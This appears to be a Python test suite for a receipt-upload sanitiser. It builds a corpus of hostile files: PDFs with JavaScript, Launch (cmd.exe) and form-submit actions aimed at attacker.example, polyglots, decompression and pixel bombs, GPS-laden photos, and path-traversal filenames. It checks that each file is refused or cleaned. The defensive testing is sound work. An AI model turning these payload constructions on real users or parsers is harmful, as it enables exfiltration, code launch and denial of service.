"""Receipt uploads: a corpus of hostile files, each either refused with its code (nothing
stored) or stored re-written clean, as the sandbox (``core.sandbox``, ``core.sanitize``) leaves
it: no active content in a PDF as pikepdf and pypdf read it, no metadata in an image as Pillow
reads it; real PDF, PNG and JPEG files stored cleaned with the original's sha256."""

from __future__ import annotations

import hashlib
import io
import struct
import time
import unicodedata
import zipfile
import zlib

import pikepdf
import pypdf
import pytest
import sqlalchemy as sa
from PIL import Image, PngImagePlugin
from reportlab.pdfgen import canvas

from core.db import session_scope
from core.sandbox import Limits
from core.sanitize import active_content
from refunds.errors import MESSAGES, ReceiptRefused
from refunds.models import Receipt
from refunds.queries import receipt_select
from refunds.services.receipts import attach_receipt
from refunds.uploads import (
    MAX_NAME_LENGTH,
    MAX_RECEIPT_BYTES,
    check_receipt,
    read_limited,
    read_receipt,
    safe_display_name,
)
from tests.refunds_factories import (
    IN_WINDOW,
    draft_claim,
    engine_of,
    load_rates,
    make_enrollment,
)

# What the sandbox makes of a file is the subject, the same whichever database then stores it
# (receipts are stored, and refused without a trace, on both in test_refunds_services and
# test_receipt_sandbox).
pytestmark = pytest.mark.one_database

# --- builders ----------------------------------------------------------------------------------


def _chunk(kind: bytes, body: bytes, crc: int | None = None) -> bytes:
    crc = zlib.crc32(kind + body) if crc is None else crc
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def png(width: int = 3, height: int = 2, *, iend: bool = True, bad_crc: bool = False) -> bytes:
    """A real 8-bit greyscale PNG (pixels only built for small sizes)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = b"".join(b"\x00" + bytes(range(width)) for _ in range(height)) \
        if width * height <= 10_000 else b"\x00"
    idat = zlib.compress(pixels)
    data = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header)
    data += _chunk(b"IDAT", idat, crc=0xDEADBEEF if bad_crc else None)
    return data + (_chunk(b"IEND", b"") if iend else b"")


def jpeg_header(width: int = 640, height: int = 480) -> bytes:
    """A JPEG's marker structure only (SOI, APP0, DQT, SOF0, SOS, a few bytes, EOI): enough to
    claim any size."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(range(1, 65))
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + app0 + dqt + sof + sos + b"\x12\x34\x56\xff\x00\x78" + b"\xff\xd9"


def jpeg(width: int = 64, height: int = 48, **save) -> bytes:
    """A real JPEG photo as Pillow writes it (``save``: exif=, icc_profile=, ...)."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "JPEG", **save)
    return out.getvalue()


def gps_exif(orientation: int = 6) -> bytes:
    """EXIF with a GPS position (a home in Oslo) and an orientation."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (59.0, 54.0, 30.0), 3: "E", 4: (10.0, 45.0, 10.0)}
    return exif.tobytes()


def png_with_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Storgata 1, Oslo")
    info.add_text("Author", "Kari", zip=True)
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>home</x:xmpmeta>")
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (1, 2, 3)).save(out, "PNG", pnginfo=info, exif=gps_exif(1))
    return out.getvalue()


def real_pdf(pages: int = 1) -> bytes:
    """A receipt as reportlab writes it."""
    out = io.BytesIO()
    pdf = canvas.Canvas(out)
    for _ in range(pages):
        pdf.drawString(72, 720, "Kvittering: Bergen parkering 120,00 kr")
        pdf.showPage()
    pdf.save()
    return out.getvalue()


_PAGE = (b"%%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n"
         b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
         b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>\nendobj\n")


def pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"",
        tail: bytes = b"%%EOF\n") -> bytes:
    """A small hand-written one-page PDF (no xref: qpdf rebuilds it) with extra objects
    numbered from 4; ``catalog`` and ``page`` add entries to those dictionaries."""
    body = _PAGE % (catalog, page)
    for number, obj in enumerate(objects, start=4):
        body += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\n" + tail


def empty_pdf() -> bytes:
    """A well-formed PDF without a page."""
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def object_stream(content: bytes, *, compress: bool = True) -> bytes:
    data = zlib.compress(content) if compress else b"\x8f" * 40
    return (b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(data) + data + b"\nendstream")


def pdf_with_xref_stream(hidden: bytes, *, objstm_extra: bytes = b"",
                         after_stream: bytes = b"\n") -> bytes:
    """A PDF whose OpenAction (object 5) sits compressed in object stream 4, found through an
    xref stream: what the hand-written scan could be made to miss."""
    data = zlib.compress(b"5 0 " + hidden)
    objstm = (b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode %s /Length %d >>\nstream"
              % (objstm_extra, len(data)) + after_stream + data + b"\nendstream")
    body = bytearray(_PAGE % (b"/OpenAction 5 0 R", b""))
    offsets = [body.index(b"%d 0 obj" % n) for n in (1, 2, 3)]
    offsets.append(len(body))
    body += b"4 0 obj\n" + objstm + b"\nendobj\n"
    xref_at = len(body)
    rows = b"\x00" + b"\x00" * 4 + b"\xff\xff"
    rows += b"".join(b"\x01" + struct.pack(">IH", at, 0) for at in offsets)
    rows += b"\x02" + struct.pack(">IH", 4, 0)  # object 5: in stream 4, index 0
    rows += b"\x01" + struct.pack(">IH", xref_at, 0)
    body += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
             % len(rows) + rows + b"\nendstream\nendobj\n")
    return bytes(body) + b"startxref\n%d\n%%%%EOF\n" % xref_at


def pikepdf_receipt(change, *, object_streams: bool = False, **save) -> bytes:
    """``real_pdf()`` opened with pikepdf, changed by ``change(pdf)`` and saved."""
    with pikepdf.open(io.BytesIO(real_pdf())) as document:
        change(document)
        out = io.BytesIO()
        mode = pikepdf.ObjectStreamMode.generate if object_streams else \
            pikepdf.ObjectStreamMode.disable
        document.save(out, object_stream_mode=mode, **save)
    return out.getvalue()


def _js(document) -> pikepdf.Dictionary:
    return document.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))


def _open_action(document) -> None:
    document.Root.OpenAction = _js(document)


def _name_tree_js(document) -> None:
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("x"), _js(document)])))


def _page_aa(document) -> None:
    document.pages[0].obj.AA = pikepdf.Dictionary(O=_js(document), C=pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def _annotation(subtype: str, **entries):
    def change(document) -> None:
        annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype),
                                   Rect=pikepdf.Array([10, 10, 100, 40]), **entries)
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annot)])
    return change


def _action(kind: str, **entries) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(kind), **entries)


def _embedded_file(document) -> None:
    stream = document.make_stream(b"MZ\x90\x00 payload")
    stream.Type = pikepdf.Name.EmbeddedFile
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("virus.exe"),
                              EF=pikepdf.Dictionary(F=stream))
    document.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("virus.exe"), document.make_indirect(spec)])))


def _xfa_form(document) -> None:
    widget = document.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx,
        T=pikepdf.String("belop"), Rect=pikepdf.Array([10, 10, 100, 40]),
        A=_action("/SubmitForm", F=pikepdf.String("https://attacker.example/collect")),
        AA=pikepdf.Dictionary(K=_js(document))))
    document.pages[0].obj.Annots = pikepdf.Array([widget])
    xfa = document.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]), XFA=xfa)


def _outline_js(document) -> None:
    item = document.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("x"),
                                                     A=_js(document)))
    document.Root.Outlines = pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item,
                                                Last=item, Count=1)


def _external_stream(document) -> None:
    stream = document.make_stream(b"")
    stream.F = pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("http://x.example/a"))
    document.pages[0].obj.Resources.XObject = pikepdf.Dictionary(X1=stream)


def zip_archive(comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
        archive.comment = comment
    return out.getvalue()


def the_a_bomb(size: int, *, catalog: bool = False) -> bytes:
    """The issue's file: ``obj /a/a/a/a/a/a/a/a stream`` over and over, ``size`` bytes."""
    block = b"4 0 obj /a/a/a/a/a/a/a/a stream\n"
    head = (_PAGE % (b"", b"")) if catalog else b"%PDF-1.4\n"
    tail = b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    return head + block * ((size - len(head) - len(tail)) // len(block)) + tail


def flate_bomb() -> bytes:
    """A content stream of a few hundred kilobytes that inflates to 512 MB of zeros."""
    packer = zlib.compressobj(9)
    zeros = b"\0" * (16 * 1024 * 1024)
    data = b"".join(packer.compress(zeros) for _ in range(32)) + packer.flush()
    return pdf(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data
               + b"\nendstream", page=b"/Contents 4 0 R")


# --- the hostile corpus ------------------------------------------------------------------------

CLEAN = "cleaned"  # the file is stored re-written: no active content, no metadata

_JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"

HOSTILE = {
    # Not a receipt at all.
    "empty": (b"", "empty"),
    "html_named_pdf": (b"<!DOCTYPE html><html><script>alert(1)</script></html>",
                       "unknown_type"),
    "html_with_pdf_magic_later": (b"<html>\n%PDF-1.4\n<script>x()</script>%%EOF",
                                  "unknown_type"),
    "pdf_magic_after_whitespace": (b"\n\n%PDF-1.4\n%%EOF\n", "unknown_type"),
    "svg_with_script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
                        b"</svg>", "unknown_type"),
    "svg_with_xml_declaration": (b'<?xml version="1.0"?><svg onload="alert(1)"/>',
                                 "unknown_type"),
    "gif": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "unknown_type"),
    "windows_exe": (b"MZ\x90\x00" + b"\x00" * 60, "unknown_type"),
    "zip": (zip_archive(), "unknown_type"),
    "etc_passwd": (b"root:x:0:0:root:/root:/bin/bash\n", "unknown_type"),
    # Polyglots.
    "pdf_with_zip_appended": (real_pdf() + zip_archive(), "polyglot"),
    # The ZIP's comment ends the file with %%EOF, so both readers are satisfied.
    "pdf_with_zip_then_eof": (real_pdf() + zip_archive(comment=b"%%EOF\n"), "polyglot"),
    "jpeg_with_zip_appended": (jpeg() + zip_archive(), "polyglot"),
    # Half a ZIP no reader opens: re-encoding leaves it behind.
    "jpeg_with_zip_entry_appended": (jpeg() + zip_archive()[:60], CLEAN),
    "png_with_data_after_iend": (png() + b"<script>alert(1)</script>", CLEAN),
    # Damaged files.
    "truncated_png": (png(40, 40)[:60], "truncated"),
    "png_without_iend": (png(iend=False), "truncated"),
    "png_bad_crc": (png(bad_crc=True), "corrupt"),
    "truncated_jpeg": (jpeg(200, 200)[:-300], "truncated"),
    "jpeg_cut_in_headers": (jpeg()[:30], "truncated"),
    "jpeg_without_frame": (b"\xff\xd8\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\xff\xd9",
                           "corrupt"),
    "truncated_pdf": (real_pdf()[:-200], "truncated"),
    "pdf_without_eof": (pdf(tail=b""), "truncated"),
    "pdf_without_pages": (empty_pdf(), "pdf_no_pages"),
    "pdf_with_60_pages": (real_pdf(pages=60), "pdf_too_many_pages"),
    "pdf_encrypted": (pikepdf_receipt(lambda d: None, encryption=pikepdf.Encryption(
        owner="eigar", user="brukar")), "pdf_encrypted"),
    # Images that claim to be huge.
    "png_bomb_50000": (png(50_000, 50_000), "too_many_pixels"),
    "png_too_wide": (png(12_001, 1), "too_many_pixels"),
    "png_90_megapixels": (png(10_000, 9_000), "too_many_pixels"),
    "jpeg_bomb_50000": (jpeg_header(50_000, 50_000), "too_many_pixels"),
    "jpeg_bomb_60000": (jpeg_header(60_000, 60_000), "too_many_pixels"),
    "png_zero_size": (png(0, 5), "corrupt"),
    # Metadata that tells where the participant lives.
    "jpeg_with_exif_gps": (jpeg(exif=gps_exif()), CLEAN),
    "jpeg_with_icc_and_comment": (jpeg(icc_profile=b"\0" * 200, comment=b"Storgata 1"), CLEAN),
    "png_with_text_and_exif": (png_with_metadata(), CLEAN),
    # Active content: cleaned away.
    "pdf_javascript_open_action": (pikepdf_receipt(_open_action), CLEAN),
    "pdf_javascript_in_object_stream": (pikepdf_receipt(_open_action, object_streams=True),
                                        CLEAN),
    "pdf_hex_escaped_javascript": (pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
                                       catalog=b"/OpenAction 4 0 R"), CLEAN),
    "pdf_javascript_name_tree": (pikepdf_receipt(_name_tree_js), CLEAN),
    "pdf_js_in_hand_written_object_stream": (
        pdf(object_stream(b"5 0 " + _JS_ACTION), catalog=b"/OpenAction 5 0 R"), CLEAN),
    "pdf_objstm_dictionary_with_obj_string": (
        pdf_with_xref_stream(_JS_ACTION, objstm_extra=b"/Comment (obj)"), CLEAN),
    "pdf_bare_cr_after_stream": (pdf_with_xref_stream(_JS_ACTION, after_stream=b"\r"), CLEAN),
    "pdf_aa_on_page": (pikepdf_receipt(_page_aa), CLEAN),
    "pdf_aa_on_annotation": (pikepdf_receipt(_annotation(
        "/Link", AA=pikepdf.Dictionary(E=pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()"))))), CLEAN),
    "pdf_launch": (pikepdf_receipt(_annotation("/Link", A=_action(
        "/Launch", F=pikepdf.String("cmd.exe")))), CLEAN),
    "pdf_gotor": (pikepdf_receipt(_annotation("/Link", A=_action(
        "/GoToR", F=pikepdf.String("\\\\attacker\\share\\x.pdf")))), CLEAN),
    "pdf_gotoe": (pikepdf_receipt(_annotation("/Link", A=_action("/GoToE"))), CLEAN),
    "pdf_importdata": (pikepdf_receipt(_annotation("/Link", A=_action(
        "/ImportData", F=pikepdf.String("x.fdf")))), CLEAN),
    "pdf_uri_link": (pikepdf_receipt(_annotation("/Link", A=_action(
        "/URI", URI=pikepdf.String("https://attacker.example/")))), CLEAN),
    "pdf_embedded_files": (pikepdf_receipt(_embedded_file), CLEAN),
    "pdf_file_attachment_annotation": (pikepdf_receipt(_annotation(
        "/FileAttachment", FS=pikepdf.Dictionary(Type=pikepdf.Name.Filespec,
                                                 F=pikepdf.String("a.exe")))), CLEAN),
    "pdf_richmedia": (pikepdf_receipt(_annotation(
        "/RichMedia", RichMediaContent=pikepdf.Dictionary())), CLEAN),
    "pdf_xfa_and_submit_form": (pikepdf_receipt(_xfa_form), CLEAN),
    "pdf_outline_javascript": (pikepdf_receipt(_outline_js), CLEAN),
    "pdf_external_stream": (pikepdf_receipt(_external_stream), CLEAN),
    "pdf_owner_password_only": (pikepdf_receipt(_open_action, encryption=pikepdf.Encryption(
        owner="eigar", user="")), CLEAN),
    # Files built to make a parser spin or swell.
    "pdf_a_bomb_48k": (the_a_bomb(48 * 1024), "pdf_unreadable"),
    "pdf_a_bomb_300k": (the_a_bomb(300 * 1024), "pdf_unreadable"),
    "pdf_a_bomb_1m": (the_a_bomb(1024 * 1024), "pdf_unreadable"),
    "pdf_a_bomb_10m": (the_a_bomb(10_000_000), "pdf_unreadable"),
    "pdf_a_bomb_10m_with_catalog": (the_a_bomb(10_000_000, catalog=True), CLEAN),
    "pdf_deeply_nested_arrays": (pdf(page=b"/Foo " + b"[" * 100_000 + b"]" * 100_000),
                                 "pdf_unreadable"),
    "pdf_deeply_nested_dictionaries": (
        pdf(page=b"/Foo " + b"<< /A " * 50_000 + b"1" + b" >>" * 50_000), "pdf_unreadable"),
    "pdf_huge_xref": (pdf(tail=b"xref\n0 10000000\n" + b"0000000000 65535 f \n" * 300_000
                          + b"trailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n"), CLEAN),
    "pdf_flate_bomb": (flate_bomb(), "too_complex"),
}


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 40
    assert sum(expected == CLEAN for _data, expected in HOSTILE.values()) >= 20


# What may not survive cleaning, as pypdf reads keys and names (with #xx escapes decoded).
ACTIVE_PDF_NAMES = {
    "/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFile", "/EmbeddedFiles",
    "/EF", "/RichMedia", "/RichMediaContent", "/XFA", "/AcroForm", "/SubmitForm", "/ImportData",
    "/GoToE", "/GoToR", "/URI", "/FileAttachment", "/Filespec", "/Annots", "/Names",
    "/Outlines", "/Widget",
}


def pypdf_names(data: bytes) -> set[str]:
    """Every key and name value reachable from the trailer, read by pypdf (not qpdf)."""
    reader = pypdf.PdfReader(io.BytesIO(data), strict=False)
    seen, found, stack = set(), set(), [reader.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, pypdf.generic.IndirectObject):
            if (obj.idnum, obj.generation) in seen:
                continue
            seen.add((obj.idnum, obj.generation))
            obj = obj.get_object()
        if isinstance(obj, pypdf.generic.DictionaryObject):
            found.update(str(key) for key in obj)
            stack.extend(value for key, value in obj.items() if key != "/Parent")
        elif isinstance(obj, pypdf.generic.ArrayObject):
            stack.extend(obj)
        elif isinstance(obj, pypdf.generic.NameObject):
            found.add(str(obj))
    return found


def assert_clean_pdf(data: bytes) -> None:
    """Nothing active, as qpdf (pikepdf) and as pypdf read the stored file."""
    with pikepdf.open(io.BytesIO(data)) as document:
        assert not document.is_encrypted
        assert active_content(document) == []
        assert len(document.pages) >= 1
        for key in ("/OpenAction", "/AA", "/Names", "/AcroForm", "/Outlines"):
            assert key not in document.Root
        for page in document.pages:
            assert "/Annots" not in page.obj
            assert "/AA" not in page.obj
    assert pypdf_names(data) & ACTIVE_PDF_NAMES == set()
    assert len(pypdf.PdfReader(io.BytesIO(data)).pages) >= 1


def assert_clean_image(data: bytes, content_type: str) -> None:
    """Re-encoded in its own format with no metadata: no EXIF (so no GPS), ICC, XMP, text."""
    with Image.open(io.BytesIO(data)) as image:
        assert Image.MIME[image.format] == content_type
        assert dict(image.getexif()) == {}
        assert image.getexif().get_ifd(0x8825) == {}
        assert not {"exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "comment", "Comment",
                    "Author"} & set(image.info)
        assert getattr(image, "text", {}) == {}
        image.load()
    assert b"Storgata" not in data
    assert b"PK\x03\x04" not in data


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_file_is_cleaned_or_refused_with_its_code_within_the_limit(name):
    data, expected = HOSTILE[name]
    started = time.monotonic()
    if expected == CLEAN:
        receipt = read_receipt(io.BytesIO(data), "kvittering.pdf")
        if receipt.content_type == "application/pdf":
            assert_clean_pdf(receipt.data)
        else:
            assert_clean_image(receipt.data, receipt.content_type)
        assert receipt.original_sha256 == hashlib.sha256(data).hexdigest()
        assert receipt.sha256 == hashlib.sha256(receipt.data).hexdigest()
    else:
        with pytest.raises(ReceiptRefused) as exc:
            read_receipt(io.BytesIO(data), "kvittering.pdf")
        assert exc.value.code == expected
        assert exc.value.code in MESSAGES
    assert time.monotonic() - started < Limits().wall_seconds


def test_a_photo_is_turned_upright_and_loses_its_gps_position():
    data, _ = HOSTILE["jpeg_with_exif_gps"]
    with Image.open(io.BytesIO(data)) as original:
        assert original.getexif().get_ifd(0x8825)[2] == (59.0, 54.0, 30.0)
        assert original.size == (64, 48)
    receipt = read_receipt(io.BytesIO(data), "foto.jpg")
    with Image.open(io.BytesIO(receipt.data)) as stored:
        assert stored.size == (48, 64)  # EXIF orientation 6: turned a quarter
        assert stored.getexif().get_ifd(0x8825) == {}
    assert (receipt.width, receipt.height) == (48, 64)


def test_the_visible_text_of_a_cleaned_pdf_is_kept():
    data, _ = HOSTILE["pdf_javascript_open_action"]
    receipt = read_receipt(io.BytesIO(data), "kvittering.pdf")
    text = pypdf.PdfReader(io.BytesIO(receipt.data)).pages[0].extract_text()
    assert "Bergen parkering 120,00 kr" in text


class LazyStream:
    """A stream of ``size`` bytes made up as they are read, counting what was asked for."""

    def __init__(self, size: int, head: bytes = b"%PDF-1.7\n"):
        self.size, self.head, self.position = size, head, 0

    def read(self, n: int = -1) -> bytes:
        assert n >= 0, "the reader must never ask for everything"
        n = min(n, self.size - self.position)
        start = self.position
        self.position += n
        block = (self.head + b"A" * n)[start:start + n] if start < len(self.head) else b"A" * n
        return block


def test_a_50_mb_stream_is_refused_without_reading_it_all():
    stream = LazyStream(50 * 1024 * 1024)
    with pytest.raises(ReceiptRefused) as exc:
        read_receipt(stream, "stor.pdf")
    assert exc.value.code == "too_large"
    assert stream.position <= MAX_RECEIPT_BYTES + 1
    assert stream.position < stream.size


def test_read_limited_stops_at_limit_plus_one_byte():
    stream = LazyStream(1000)
    with pytest.raises(ReceiptRefused):
        read_limited(stream, limit=100)
    assert stream.position == 101
    exact = LazyStream(100)
    assert len(read_limited(exact, limit=100)) == 100


def test_a_refused_name_costs_no_reading():
    stream = LazyStream(1000)
    with pytest.raises(ReceiptRefused) as exc:
        read_receipt(stream, "../../etc/passwd")
    assert exc.value.code == "bad_name"
    assert stream.position == 0


@pytest.mark.parametrize("name", [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "kvittering/../../x.pdf",
    "kvittering\x00.pdf", "kvit\x1b[31mtering.pdf", "line\nbreak.pdf", "tab\t.pdf",
    "faktura\u202efdp.exe", "zero\u200bwidth.pdf", "del\x7f.pdf",
])
def test_names_with_traversal_nul_or_control_characters_are_refused(name):
    with pytest.raises(ReceiptRefused) as exc:
        check_receipt(real_pdf(), name)
    assert exc.value.code == "bad_name"


@pytest.mark.parametrize(("raw", "shown"), [
    ("C:\\fakepath\\kvittering.pdf", "kvittering.pdf"),
    ("mappe/kvittering.pdf", "kvittering.pdf"),
    (".htaccess", "htaccess"),
    ("  Ferje   Lavik.pdf ", "Ferje Lavik.pdf"),
    ("Kvitteringe\u0301.pdf", "Kvitteringé.pdf"),
    (None, ""),
    ("", ""),
])
def test_display_names_are_sanitised(raw, shown):
    assert safe_display_name(raw) == unicodedata.normalize("NFC", shown)


def test_long_names_are_cut_keeping_the_extension():
    shown = safe_display_name("x" * 500 + ".pdf")
    assert len(shown) == MAX_NAME_LENGTH
    assert shown.endswith(".pdf")


# --- accepted files ----------------------------------------------------------------------------


def test_valid_files_are_accepted_with_their_sniffed_type_and_size():
    pdf_receipt = check_receipt(real_pdf(), "kvittering.PNG")
    assert pdf_receipt.content_type == "application/pdf"
    png_receipt = check_receipt(png(3, 2), "bilde.pdf")
    assert (png_receipt.content_type, png_receipt.width, png_receipt.height) == (
        "image/png", 3, 2)
    jpeg_receipt = check_receipt(jpeg(640, 480), "foto.jpg")
    assert (jpeg_receipt.content_type, jpeg_receipt.width, jpeg_receipt.height) == (
        "image/jpeg", 640, 480)


def test_a_jpeg_with_a_phone_makers_trailer_is_accepted_without_it():
    # Samsung cameras append "SEFH/SEFT" metadata after the end-of-image marker.
    data = jpeg() + b"\x00\x00SEFHdata-of-the-phone\x00SEFT"
    receipt = check_receipt(data, "foto.jpg")
    assert receipt.content_type == "image/jpeg"
    assert b"SEFH" not in receipt.data


def test_a_pdf_with_a_harmless_object_stream_is_accepted():
    data = pdf(object_stream(b"5 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"))
    assert check_receipt(data, "ok.pdf").content_type == "application/pdf"


def test_the_limit_is_inclusive():
    data = real_pdf()
    receipt = read_receipt(io.BytesIO(data), "a.pdf", limit=len(data))
    assert receipt.original_sha256 == hashlib.sha256(data).hexdigest()
    with pytest.raises(ReceiptRefused):
        read_receipt(io.BytesIO(data), "a.pdf", limit=len(data) - 1)


# --- through the database ----------------------------------------------------------------------


@pytest.fixture
def claim_id(app, make_offering) -> int:
    load_rates(app)
    return draft_claim(app, make_enrollment(app, make_offering))


@pytest.mark.parametrize("builder", [real_pdf, png, jpeg])
def test_a_valid_receipt_is_stored_cleaned_with_the_originals_hash(app, claim_id, builder):
    data = builder()
    checked = read_receipt(io.BytesIO(data), "C:\\Users\\kari\\kvittering")
    with session_scope(engine_of(app)) as session:
        receipt_id = attach_receipt(session, claim_id, checked, now=IN_WINDOW).id
    with session_scope(engine_of(app)) as session:
        stored = session.scalar(receipt_select(receipt_id))
        assert stored.data == checked.data
        assert hashlib.sha256(stored.data).hexdigest() == stored.sha256
        assert stored.original_sha256 == hashlib.sha256(data).hexdigest()
        assert stored.size == len(stored.data)
        assert stored.original_name == "kvittering"


@pytest.mark.parametrize("name", ["html_named_pdf", "svg_with_script", "png_bomb_50000",
                                  "pdf_encrypted", "pdf_with_zip_appended", "pdf_flate_bomb"])
def test_a_refused_upload_stores_nothing(app, claim_id, name):
    data, code = HOSTILE[name]
    with pytest.raises(ReceiptRefused) as exc:
        read_receipt(io.BytesIO(data), "x.pdf")
    assert exc.value.code == code
    with pytest.raises(ReceiptRefused):
        read_receipt(LazyStream(50 * 1024 * 1024), "x.pdf")
    with pytest.raises(ReceiptRefused):
        read_receipt(io.BytesIO(real_pdf()), "../../etc/passwd")
    with session_scope(engine_of(app)) as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(Receipt)) == 0
